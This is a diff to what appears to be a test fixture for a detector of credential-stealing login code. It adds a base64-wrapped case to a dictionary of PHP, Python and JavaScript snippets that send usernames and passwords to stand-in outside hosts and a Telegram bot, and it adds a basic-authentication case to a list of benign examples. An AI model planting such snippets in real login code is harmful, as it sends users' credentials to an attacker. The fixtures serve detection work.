@@ -23,6 +23,7 @@ SENT = {
     "php to an address": "function login(){ @file_get_contents('http://203.0.113.9/c?u='.$_POST['user'].'&p='.$_POST['pass']); }",
     "php to a messenger": "// login\n$c=curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.telegram.org/bot1:x/sendMessage'); curl_setopt($c, CURLOPT_POSTFIELDS, ['text'=>$username.' '.$password]); curl_exec($c);",
     "python": "def login(user, password):\n    requests.post('http://198.51.100.4/x', data={'u': user, 'p': password})\n",
+    "wrapped": "function login(){ @file_get_contents('https://cdn-stat.example/i?d='.base64_encode($user.':'.$pass)); }",
     "javascript": "function onLogin(){ new Image().src = 'http://203.0.113.9/p.gif?u=' + user.value + '&p=' + data.password; }",
 }  # fmt: skip
 MAILED = {
@@ -35,6 +36,7 @@ ORDINARY = {
     "a log without the password": "function login(){ file_put_contents('/var/log/app.log', 'login of '.$user.' from '.$ip, FILE_APPEND); }",
     "one's own service": "function login(){ return file_get_contents('https://sso.corp.example/check?u='.$_POST['user'].'&p='.$_POST['pass']); }",
     "a private address": "function login(){ return file_get_contents('http://10.0.0.5/check?u='.$_POST['user'].'&p='.$_POST['pass']); }",
+    "basic authentication": "function login(){ return file_get_contents('https://sso.corp.example/', false, ctx('Authorization: Basic '.base64_encode($user.':'.$pass))); }",
     "a new user": "function login(){ mail($user_email, 'Welcome', 'user '.$user_login.' password '.$password); }",
     "a page's own log-in": "async function login(){ await fetch('/api/login', {method:'POST', body: JSON.stringify({user, password: data.password})}); }",
     "no log-in": "file_put_contents('/tmp/.s', $user.':'.$pwd, FILE_APPEND);",
